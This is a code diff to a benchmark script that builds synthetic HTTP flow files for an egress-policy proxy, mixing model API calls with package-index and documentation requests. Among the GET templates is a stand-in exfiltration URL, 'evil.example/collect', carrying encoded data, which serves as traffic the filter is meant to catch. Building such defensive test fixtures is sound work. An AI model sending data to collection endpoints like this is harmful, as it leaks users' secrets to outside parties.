@@ -23,28 +23,45 @@ from pathlib import Path
 REPO = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(REPO))
 
+from benchmarks import agent_corpus  # noqa: E402
 from cli.diff import Summary, diff  # noqa: E402
 from egress.policy.compiled import compile_policy  # noqa: E402
 from egress.policy.loader import load_policy, parse_policy  # noqa: E402
 from proxy.replay import Replayer, format_json, read_flows  # noqa: E402
 from tests.support.flows import http_flow, write_flows  # noqa: E402
 
-SAMPLE = [
-    ("GET", "https://api.github.com/repos/octo/hello/pulls?state=open&page=2", b"", 200),
-    ("POST", "https://api.anthropic.com/v1/messages", b'{"model":"claude","max_tokens":64,'
-     b'"messages":[{"role":"user","content":"summarise the diff"}]}', 200),
-    ("GET", "https://pypi.org/simple/requests/", b"", 200),
-    ("GET", "https://evil.example/collect?d=aGVsbG8", b"", None),
-    ("POST", "https://gist.github.com/gists", b'{"files":{"a.txt":{"content":"x"}}}', None),
-]
+# The GETs an agent's session makes besides its model calls (package indexes, APIs, docs).
+GETS = (
+    "https://api.github.com/repos/octo/hello{i}/pulls?state=open&page={p}",
+    "https://pypi.org/simple/package-{i}/",
+    "https://registry.npmjs.org/module-{i}",
+    "https://docs.python.org/3/library/mod{i}.html",
+    "https://evil.example/collect?d=aGVsbG8{i}",
+)
 
 
 def build(path: Path, n: int) -> None:
+    """A realistic flow file: half of the flows are ~10 KB model calls (Anthropic Messages
+    or OpenAI Chat bodies from `benchmarks.agent_corpus`, each different), half GETs, every
+    flow with its own URL and headers, responses recorded."""
+    bodies = [agent_corpus.body(10_000, seed) for seed in range(n // 2 + 1)]
     flows = []
     for i in range(n):
-        method, url, body, status = SAMPLE[i % len(SAMPLE)]
-        flows.append(http_flow(method, url, {"User-Agent": "bench", "Accept": "*/*"}, body, status,
-                               b'{"ok":true}', {"Content-Type": "application/json"}))
+        headers = {"User-Agent": f"agent/{i % 7}.{i % 13}", "Accept": "*/*",
+                   "X-Request-Id": f"req-{i:08d}-{(i * 2654435761) % 2**32:08x}"}
+        if i % 2 == 0:
+            body = bodies[i // 2]
+            api = "messages" if b'"max_tokens"' in body[:80] else "chat/completions"
+            host = "api.anthropic.com" if api == "messages" else "api.openai.com"
+            flows.append(http_flow("POST", f"https://{host}/v1/{api}",
+                                   {**headers, "Content-Type": "application/json"}, body, 200,
+                                   b'{"id":"msg_%d","content":[{"type":"text","text":"ok"}]}' % i,
+                                   {"Content-Type": "application/json"}))
+        else:
+            url = GETS[(i // 2) % len(GETS)].format(i=i, p=i % 9)
+            status = None if "evil" in url else 200
+            flows.append(http_flow("GET", url, headers, b"", status, b'{"ok":true}',
+                                   {"Content-Type": "application/json"}))
     write_flows(path, flows)
 
 
